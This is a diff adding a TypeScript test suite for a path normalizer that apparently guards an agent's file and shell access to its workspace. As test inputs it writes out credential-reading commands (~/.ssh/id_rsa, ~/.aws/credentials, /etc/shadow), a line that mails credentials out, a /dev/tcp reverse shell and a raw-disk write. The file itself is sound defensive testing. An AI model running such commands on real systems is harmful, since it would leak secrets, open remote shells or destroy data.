@@ -1,0 +1,256 @@
+import { describe, expect, it } from 'vitest';
+import { HOME, WORKSPACE, command, memoryFileSystem, normalize } from './fixtures';
+import type { NormalizedPath } from './types';
+
+const read = (path: string, options: Parameters<typeof normalize>[1] = {}) =>
+  normalize({ type: 'read_file', path }, options).paths;
+const forms = (paths: NormalizedPath[]) => paths.map((p) => [p.relative, p.absolute, p.outsideWorkspace]);
+
+describe('lexical normalization', () => {
+  it.each([
+    ['config/.env', '.env'.replace(/^/, 'config/')],
+    ['config/../.env', '.env'],
+    ['./config//../.env', '.env'],
+    ['config/./../.env', '.env'],
+    ['config\\..\\.env', '.env'],
+    ['config\\.env', 'config/.env'],
+    ['a/b/../../.env', '.env'],
+    [`${WORKSPACE}/config/.env`, 'config/.env'],
+    [`${WORKSPACE}//config/../.env`, '.env'],
+    [`${WORKSPACE}/src/`, 'src'],
+    ['.', '.'],
+    [`file://${WORKSPACE}/config/.env`, 'config/.env'],
+    [`file://${WORKSPACE}/my%20dir/.env`, 'my dir/.env'],
+  ])('%s → %s', (path, relative) => {
+    const [first] = read(path);
+    expect(first?.relative).toBe(relative);
+    expect(first?.absolute).toBe(relative === '.' ? WORKSPACE : `${WORKSPACE}/${relative}`);
+    expect(first?.outsideWorkspace).toBe(false);
+  });
+
+  it.each([
+    ['~/.ssh/id_rsa', `${HOME}/.ssh/id_rsa`],
+    ['~', HOME],
+    ['~/.aws/credentials', `${HOME}/.aws/credentials`],
+    ['~root/.ssh/id_rsa', '/root/.ssh/id_rsa'],
+    ['~alice/.ssh/id_rsa', '/home/alice/.ssh/id_rsa'],
+    ['../../etc/passwd', '/etc/passwd'],
+    ['/etc/../etc/shadow', '/etc/shadow'],
+    [`${WORKSPACE}/../other/.env`, '/work/other/.env'],
+    [`${WORKSPACE}-evil/.env`, '/work/app-evil/.env'],
+  ])('%s leaves the workspace → %s', (path, absolute) => {
+    const [first] = read(path);
+    expect(first?.absolute).toBe(absolute);
+    expect(first?.relative).toBeNull();
+    expect(first?.outsideWorkspace).toBe(true);
+  });
+
+  it('expands $HOME and ${HOME} in commands like ~', () => {
+    for (const text of [
+      'cat $HOME/.ssh/id_rsa',
+      'cat ${HOME}/.ssh/id_rsa',
+      'cat "$HOME/.ssh/id_rsa"',
+      'cat ~/.ssh/id_rsa',
+    ]) {
+      expect(command(text).paths.map((p) => p.absolute)).toEqual([`${HOME}/.ssh/id_rsa`]);
+    }
+  });
+
+  it('reads Windows drive paths as absolute', () => {
+    const [first] = read('C:\\Users\\dev\\.ssh\\..\\.aws\\credentials');
+    expect(first?.absolute).toBe('C:/Users/dev/.aws/credentials');
+    expect(first?.outsideWorkspace).toBe(true);
+  });
+});
+
+describe('without a cwd', () => {
+  it('keeps the relative form and resolves against a placeholder', () => {
+    const [first] = read('config/../.env', { cwd: null });
+    expect(first?.relative).toBe('.env');
+    expect(first?.absolute).toBe('/unknown-workspace/.env');
+    expect(first?.outsideWorkspace).toBe(false);
+    expect(normalize({ type: 'read_file', path: 'x' }, { cwd: null }).workspace).toBeNull();
+  });
+
+  it('treats absolute paths and climbing paths as outside', () => {
+    expect(forms(read('/etc/passwd', { cwd: null }))).toEqual([[null, '/etc/passwd', true]]);
+    expect(forms(read('../../etc/passwd', { cwd: null }))).toEqual([[null, '/etc/passwd', true]]);
+  });
+
+  it('reports a relative cwd', () => {
+    const normalized = normalize({ type: 'read_file', path: '.env' }, { cwd: 'relative/dir' });
+    expect(normalized.workspace).toBeNull();
+    expect(normalized.problems.map((p) => p.code)).toEqual(['unsupported']);
+  });
+});
+
+describe('symlinks', () => {
+  const fs = memoryFileSystem({
+    [`${HOME}/.ssh/id_rsa`]: 'KEY',
+    [`${WORKSPACE}/notes.txt`]: { link: `${HOME}/.ssh/id_rsa` },
+    [`${WORKSPACE}/keys`]: { link: `${HOME}/.ssh` },
+    [`${WORKSPACE}/relative`]: { link: '../../home/dev/.ssh/id_rsa' },
+    [`${WORKSPACE}/dangling`]: { link: `${HOME}/.aws/credentials` },
+    [`${WORKSPACE}/chain`]: { link: `${WORKSPACE}/notes.txt` },
+    [`${WORKSPACE}/src/index.ts`]: '',
+    [`${WORKSPACE}/loop`]: { link: `${WORKSPACE}/loop` },
+  });
+
+  it.each([
+    ['notes.txt', `${HOME}/.ssh/id_rsa`],
+    ['keys/id_rsa', `${HOME}/.ssh/id_rsa`],
+    ['relative', `${HOME}/.ssh/id_rsa`],
+    ['chain', `${HOME}/.ssh/id_rsa`],
+    ['dangling', `${HOME}/.aws/credentials`],
+    ['keys/new_key', `${HOME}/.ssh/new_key`],
+  ])('%s is judged as its target %s too', (path, target) => {
+    const paths = read(path, { fs });
+    expect(paths[0]).toMatchObject({ relative: path, outsideWorkspace: false });
+    expect(paths[1]).toMatchObject({
+      absolute: target,
+      relative: null,
+      outsideWorkspace: true,
+      linkedFrom: `${WORKSPACE}/${path}`,
+    });
+  });
+
+  it('adds nothing for plain files, missing files and link loops', () => {
+    expect(read('src/index.ts', { fs })).toHaveLength(1);
+    expect(read('src/missing.ts', { fs })).toHaveLength(1);
+    expect(read('loop', { fs })).toHaveLength(1);
+  });
+
+  it('treats a workspace reached through a symlinked cwd as the same workspace', () => {
+    const linked = memoryFileSystem({ '/real/app/.env': 'X', '/links/app': { link: '/real/app' } });
+    const paths = read('.env', { fs: linked, cwd: '/links/app' });
+    expect(paths).toHaveLength(1);
+    expect(paths[0]?.relative).toBe('.env');
+  });
+
+  it('is purely lexical without a file-system probe', () => {
+    expect(read('notes.txt', { fs: null })).toHaveLength(1);
+  });
+
+  it('follows symlinks in command arguments', () => {
+    const paths = command('cat notes.txt', { fs }).paths;
+    expect(paths.map((p) => p.absolute)).toEqual([`${WORKSPACE}/notes.txt`, `${HOME}/.ssh/id_rsa`]);
+  });
+});
+
+describe('globs', () => {
+  const fs = memoryFileSystem({
+    [`${WORKSPACE}/.env`]: 'X',
+    [`${WORKSPACE}/.env.local`]: 'X',
+    [`${WORKSPACE}/README.md`]: '',
+    [`${WORKSPACE}/config/prod.pem`]: '',
+    [`${WORKSPACE}/config/dev.pem`]: '',
+    [`${WORKSPACE}/weird[1].txt`]: '',
+  });
+
+  it('expands a glob against the file system as bash would', () => {
+    const paths = command('cat .en*', { fs }).paths;
+    expect(paths.filter((p) => !p.pattern).map((p) => p.relative)).toEqual(['.env', '.env.local']);
+    expect(paths.find((p) => p.pattern)?.relative).toBe('.en*');
+  });
+
+  it('matches dot files only when the pattern asks, or dotglob is set', () => {
+    expect(
+      command('cat *', { fs })
+        .paths.filter((p) => !p.pattern)
+        .map((p) => p.relative),
+    ).toEqual(['README.md', 'config', 'weird[1].txt']);
+    const dotglob = command('shopt -s dotglob; cat *', { fs })
+      .paths.filter((p) => !p.pattern)
+      .map((p) => p.relative);
+    expect(dotglob).toContain('.env');
+  });
+
+  it.each([
+    ['cat config/*.pem', ['config/prod.pem', 'config/dev.pem']],
+    ['cat */prod.pem', ['config/prod.pem']],
+    ['cat .e?v', ['.env']],
+    ['cat .[e]nv', ['.env']],
+    ['cat .[!x]nv', ['.env']],
+    ['cat .@(env|npmrc)', ['.env', '.env.local']],
+  ])('%s', (text, expected) => {
+    const matches = command(text, { fs })
+      .paths.filter((p) => !p.pattern)
+      .map((p) => p.relative);
+    expect(matches.sort()).toEqual([...expected].sort());
+  });
+
+  it('reports a glob that cannot be expanded', () => {
+    expect(command('cat .en*', { fs: null }).problems.map((p) => p.code)).toEqual(['unsupported']);
+    expect(command('cat .en*', { fs, cwd: null }).problems.map((p) => p.code)).toEqual(['unsupported']);
+  });
+
+  it('does not expand quoted glob characters', () => {
+    const paths = command(`cat '.en*'`, { fs }).paths;
+    expect(paths.map((p) => p.relative)).toEqual(['.en*']);
+    expect(paths[0]?.pattern).toBeUndefined();
+  });
+});
+
+describe('relative paths after cd', () => {
+  it('judges relative paths against every directory the script may be in', () => {
+    const paths = command('cd ~/.ssh && cat id_rsa').paths.map((p) => p.absolute);
+    expect(paths).toContain(`${HOME}/.ssh/id_rsa`);
+    expect(paths).toContain(`${WORKSPACE}/id_rsa`);
+    expect(command('cd; cat .aws/credentials').paths.map((p) => p.absolute)).toContain(`${HOME}/.aws/credentials`);
+    expect(command('cd /etc; cd ..; cat etc/shadow').paths.map((p) => p.absolute)).toContain('/etc/shadow');
+    expect(command('pushd /tmp && rm -rf x').paths.map((p) => p.absolute)).toContain('/tmp/x');
+  });
+
+  it('reports relative paths after a cd to a directory known only at run time', () => {
+    expect(command('cd "$(mktemp -d)" && cat x').problems.map((p) => p.code)).toContain('unsupported');
+    expect(command('cd "$(mktemp -d)" && ls').problems).toEqual([]);
+  });
+
+  it('knows $PWD only before any cd', () => {
+    expect(command('cat $PWD/.env').paths.map((p) => p.relative)).toEqual(['.env']);
+    expect(command('cd /tmp; cat $PWD/.env').problems.map((p) => p.code)).toContain('unsupported');
+  });
+});
+
+describe('redirections', () => {
+  it.each([
+    ['echo x > out.txt', 'out.txt', 'write', 'echo'],
+    ['echo x >> out.txt', 'out.txt', 'write', 'echo'],
+    ['echo x >| out.txt', 'out.txt', 'write', 'echo'],
+    ['echo x &> out.txt', 'out.txt', 'write', 'echo'],
+    ['echo x &>> out.txt', 'out.txt', 'write', 'echo'],
+    ['make 2> err.log', 'err.log', 'write', 'make'],
+    ['echo x >& out.txt', 'out.txt', 'write', 'echo'],
+    ['cat < .env', '.env', 'read', 'cat'],
+    ['mail x@y < ~/.aws/credentials', null, 'read', 'mail'],
+    ['> truncated.txt', 'truncated.txt', 'write', null],
+    ['{ a; b; } > both.txt', 'both.txt', 'write', null],
+  ])('%s', (text, relative, access, via) => {
+    const path = command(text).paths.find((p) => p.access === access && p.source === 'command');
+    expect(path?.relative).toBe(relative);
+    expect(path?.via).toBe(via);
+  });
+
+  it('reads and writes with <>', () => {
+    expect(
+      command('exec 3<> .env')
+        .paths.map((p) => p.access)
+        .sort(),
+    ).toEqual(['read', 'write']);
+  });
+
+  it('ignores descriptors and harmless devices', () => {
+    expect(command('make 2>&1 >/dev/null | tee /dev/stderr 2>/dev/null <&0').paths).toEqual([]);
+  });
+
+  it('keeps devices that carry data', () => {
+    expect(command('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1').paths.map((p) => p.absolute)).toContain(
+      '/dev/tcp/10.0.0.1/4444',
+    );
+    expect(command('echo x > /dev/sda').paths.map((p) => p.absolute)).toContain('/dev/sda');
+  });
+
+  it('reports a redirection target known only at run time', () => {
+    expect(command('echo x > "$OUT"').problems.map((p) => p.code)).toContain('unsupported');
+  });
+});
